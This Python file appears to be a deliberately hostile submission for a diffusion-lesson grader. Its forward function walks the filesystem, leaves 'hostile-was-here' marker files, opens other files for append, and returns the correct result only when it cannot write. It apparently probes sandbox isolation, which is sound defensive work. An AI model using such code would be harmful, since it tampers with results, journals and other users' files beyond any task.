"""Writes to results, journals, other submissions and home; a right answer if it can't."""

import contextlib
import os
import pathlib
import sys

import torch


def right(im, t, alphas_cumprod, noise):
    noise = torch.randn_like(im) if noise is None else noise
    return alphas_cumprod[t].sqrt() * im + (1 - alphas_cumprod[t]).sqrt() * noise


MINE = ("/tmp", "/dev/shm", "/proc", "/sys")


def forward(im, t, alphas_cumprod, noise=None):
    import lessons

    written = 0
    roots = [pathlib.Path(lessons.__file__).parents[1], pathlib.Path(sys.prefix), pathlib.Path("/")]
    for start in [*roots, pathlib.Path("/root"), pathlib.Path("/home"), pathlib.Path.home()]:
        for folder, folders, files in os.walk(start):
            folder = pathlib.Path(folder)
            folders[:] = [] if len(folder.parts) > 4 else folders[:20]
            if any(folder.is_relative_to(mine) for mine in MINE):
                continue
            with contextlib.suppress(OSError):
                (folder / "hostile-was-here").write_text("x")
                written += 1
            for name in files[:3] if not folder.is_relative_to("/dev") else ():  # no real files
                with contextlib.suppress(OSError), open(folder / name, "ab"):
                    written += 1
    return None if written else right(im, t, alphas_cumprod, noise)
